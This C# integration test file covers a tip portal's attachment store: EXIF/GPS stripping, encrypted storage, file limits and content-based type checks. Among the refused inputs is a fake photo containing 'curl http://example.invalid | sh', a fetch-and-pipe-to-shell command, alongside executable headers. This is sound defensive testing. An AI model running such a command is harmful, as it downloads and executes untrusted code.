using System.Text;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Portal.Tests.Storage;
using Portal.Tests.Reporting;
using Portal.Tips.Attachments;
using Portal.Tips.Data;
using Portal.Tips.Reporting;
using SkiaSharp;
using Portal.Tests.Infrastructure;

namespace Portal.Tests.Tips.Attachments;

[IntegrationTest]
public sealed class TipAttachmentStoreTests : IClassFixture<AttachmentPortalFactory>
{
    private readonly AttachmentPortalFactory portal;

    public TipAttachmentStoreTests(AttachmentPortalFactory portal) => this.portal = portal;

    private TipAttachmentStore Store => portal.Services.GetRequiredService<TipAttachmentStore>();

    [Fact]
    public async Task A_photo_keeps_its_gps_in_the_encrypted_original_and_loses_it_in_the_upright_viewing_copy()
    {
        var tipId = await NewTipAsync();
        var marker = "GPS-MARKER-" + Guid.NewGuid().ToString("N");
        var photo = TestFiles.JpegWithGps(marker);

        var result = await Store.AddAsync(tipId, "IMG_0001.jpg", RequestBodyStream.Of(photo));

        Assert.True(result.Accepted, result.Error);
        Assert.Equal(AttachmentState.Stored, result.State);
        var original = await ReadAsync(tipId, result.AttachmentId!.Value, viewingCopy: false);
        Assert.Equal(photo, original);
        Assert.Contains(marker, Encoding.ASCII.GetString(original), StringComparison.Ordinal);

        var copy = await ReadAsync(tipId, result.AttachmentId.Value, viewingCopy: true);
        Assert.DoesNotContain(marker, Encoding.ASCII.GetString(copy), StringComparison.Ordinal);
        Assert.False(TestFiles.HasExifSegment(copy));
        Assert.True(TestFiles.HasExifSegment(photo));
        using var decoded = SKBitmap.Decode(copy);
        Assert.NotNull(decoded);
        // EXIF orientation 6 (rotate 90° clockwise) applied: the 40×20 photo is seen upright, 20×40.
        Assert.Equal((20, 40), (decoded.Width, decoded.Height));

        var stored = await AttachmentAsync(result.AttachmentId.Value);
        // The row shows the file's size class; its exact length is sealed with its name.
        Assert.Equal(("image", "image/jpeg", 64L * 1024), (stored.Kind, stored.ContentType, stored.Length));
        Assert.Equal("IMG_0001.jpg", await Store.NameAsync(tipId, stored.Id));
        var blobs = BlobFilesOf(tipId);
        Assert.Equal(2, blobs.Length);
        foreach (var blob in blobs)
        {
            var bytes = await File.ReadAllBytesAsync(blob);
            Assert.False(bytes.AsSpan().StartsWith((ReadOnlySpan<byte>)[0xFF, 0xD8, 0xFF]), blob);
            Assert.DoesNotContain(marker, Encoding.ASCII.GetString(bytes), StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task A_pdf_round_trips_through_the_encrypted_store_under_its_name()
    {
        var tipId = await NewTipAsync();
        var pdf = TestFiles.Pdf(300_000);

        var result = await Store.AddAsync(tipId, @"C:\Users\王伟\Desktop\证据.pdf", RequestBodyStream.Of(pdf));

        Assert.True(result.Accepted, result.Error);
        Assert.Equal(pdf, await ReadAsync(tipId, result.AttachmentId!.Value, viewingCopy: false));
        Assert.Null(await Store.OpenAsync(tipId, result.AttachmentId.Value, viewingCopy: true));
        Assert.Equal("证据.pdf", await Store.NameAsync(tipId, result.AttachmentId.Value));
        var stored = await AttachmentAsync(result.AttachmentId.Value);
        Assert.Equal(("document", "application/pdf", AttachmentState.Stored), (stored.Kind, stored.ContentType, stored.State));
        Assert.Equal($"tips/{tipId:N}/{stored.Id:N}.bin", stored.BlobKey);
        Assert.False((await File.ReadAllBytesAsync(Assert.Single(BlobFilesOf(tipId)))).AsSpan().StartsWith("%PDF"u8));
    }

    [Theory]
    [InlineData("photo.jpg", "MZ\u0090\0\u0003\0\0\0\u0004\0\0\0\u00FF\u00FF\0\0")]
    [InlineData("photo.jpg", "\u007FELF\u0002\u0001\u0001\0\0\0\0\0\0\0\0\0")]
    [InlineData("photo.jpg", "#!/bin/sh\ncurl http://example.invalid | sh\n")]
    [InlineData("notes.txt", "只是一段文字，应该写在报告里。")]
    [InlineData("archive.zip", "PK\u0003\u0004\u0014\0\0\0\u0008\0")]
    public async Task Content_that_is_not_an_accepted_type_is_refused_whatever_its_name(string name, string content)
    {
        var tipId = await NewTipAsync();
        var bytes = Encoding.Latin1.GetBytes(content);
        if (name.EndsWith(".txt", StringComparison.Ordinal))
        {
            bytes = Encoding.UTF8.GetBytes(content);
        }

        var result = await Store.AddAsync(tipId, name, RequestBodyStream.Of([.. bytes, .. new byte[4096]]));

        Assert.Equal(AttachmentRules.FileTypeNotAllowed, result.Error);
        await AssertNothingStoredAsync(tipId);
    }

    [Fact]
    public async Task An_empty_file_is_refused()
    {
        var tipId = await NewTipAsync();

        var result = await Store.AddAsync(tipId, "empty.pdf", RequestBodyStream.Of([]));

        Assert.Equal(AttachmentRules.EmptyFile, result.Error);
        await AssertNothingStoredAsync(tipId);
    }

    [Fact]
    public async Task The_eleventh_file_of_a_tip_is_refused()
    {
        var tipId = await NewTipAsync();
        for (var i = 0; i < AttachmentRules.MaxAttachmentsPerTip; i++)
        {
            Assert.True((await Store.AddAsync(tipId, $"page-{i}.pdf", RequestBodyStream.Of(TestFiles.Pdf(100 + i)))).Accepted);
        }

        var eleventh = await Store.AddAsync(tipId, "page-10.pdf", RequestBodyStream.Of(TestFiles.Pdf(100)));

        Assert.Equal(AttachmentRules.TooManyFiles, eleventh.Error);
        Assert.Equal(10, await Store.CountAsync(tipId));
        Assert.Equal(10, BlobFilesOf(tipId).Length);
    }

    [Theory]
    [InlineData("video.mp4")]
    [InlineData("photo.jpg")]
    public async Task A_file_over_50_mb_is_cut_off_and_leaves_nothing_behind(string name)
    {
        var tipId = await NewTipAsync();
        byte[] head = name.EndsWith(".mp4", StringComparison.Ordinal)
            ? [0, 0, 0, 0x20, .. "ftypisom"u8, 0, 0, 2, 0]
            : [0xFF, 0xD8, 0xFF, 0xE0];
        var rest = new GeneratedStream(200L * 1024 * 1024);

        var result = await Store.AddAsync(tipId, name, new RequestBodyStream(head, rest));

        Assert.Equal(AttachmentRules.FileTooLarge, result.Error);
        Assert.InRange(rest.Position, AttachmentRules.MaxBytes - head.Length, AttachmentRules.MaxBytes + (1 << 20));
        await AssertNothingStoredAsync(tipId);
        Assert.Empty(Directory.Exists(Path.Combine(portal.BlobFolder, ".tmp")) ? Directory.GetFiles(Path.Combine(portal.BlobFolder, ".tmp")) : []);
    }

    [Fact]
    public void Types_are_decided_by_content()
    {
        Assert.Equal("image/heic", AttachmentRules.Sniff([0, 0, 0, 0x18, .. "ftypheic"u8, 0, 0, 0, 0], "a.bin")?.ContentType);
        Assert.Equal("video/quicktime", AttachmentRules.Sniff([0, 0, 0, 0x14, .. "ftypqt  "u8, 0, 0, 0, 0], "a.mov")?.ContentType);
        Assert.Equal("video/3gpp", AttachmentRules.Sniff([0, 0, 0, 0x14, .. "ftyp3gp4"u8, 0, 0, 0, 0], "a.3gp")?.ContentType);
        Assert.Equal("image/webp", AttachmentRules.Sniff([.. "RIFF"u8, 0, 0, 0, 0, .. "WEBPVP8 "u8], "a")?.ContentType);
        Assert.Equal("image/gif", AttachmentRules.Sniff("GIF89a\u0001\0"u8, "a")?.ContentType);
        Assert.Equal("document", AttachmentRules.Sniff("PK\u0003\u0004\u0014\0"u8, "表格.XLSX")?.Kind);
        Assert.Null(AttachmentRules.Sniff("PK\u0003\u0004\u0014\0"u8, "photo.jpg"));
        Assert.Null(AttachmentRules.Sniff([0, 0, 0, 0x14, .. "ftypcrx "u8, 0, 0, 0, 0], "a.mp4"));
    }

    private async Task<Guid> NewTipAsync()
    {
        var submitted = await portal.Services.GetRequiredService<TipIntake>().SubmitAsync(TipSubmissions.Valid());
        return submitted.TipId!.Value;
    }

    private async Task<byte[]> ReadAsync(Guid tipId, Guid attachmentId, bool viewingCopy)
    {
        await using var stream = await Store.OpenAsync(tipId, attachmentId, viewingCopy);
        Assert.NotNull(stream);
        using var copy = new MemoryStream();
        await stream.CopyToAsync(copy);
        return copy.ToArray();
    }

    private async Task<TipAttachment> AttachmentAsync(Guid id)
    {
        await using var context = await portal.Services.GetRequiredService<IDbContextFactory<TipsDbContext>>().CreateDbContextAsync();
        return await context.Set<TipAttachment>().AsNoTracking().SingleAsync(a => a.Id == id);
    }

    private string[] BlobFilesOf(Guid tipId)
    {
        var folder = Path.Combine(portal.BlobFolder, "tips", tipId.ToString("N"));
        return Directory.Exists(folder) ? Directory.GetFiles(folder) : [];
    }

    private async Task AssertNothingStoredAsync(Guid tipId)
    {
        Assert.Equal(0, await Store.CountAsync(tipId));
        Assert.Empty(BlobFilesOf(tipId));
        await using var context = await portal.Services.GetRequiredService<IDbContextFactory<TipsDbContext>>().CreateDbContextAsync();
        Assert.False(await context.Set<AttachmentOutboxItem>().AnyAsync(i => i.BlobKey.StartsWith($"tips/{tipId:N}/")));
    }
}
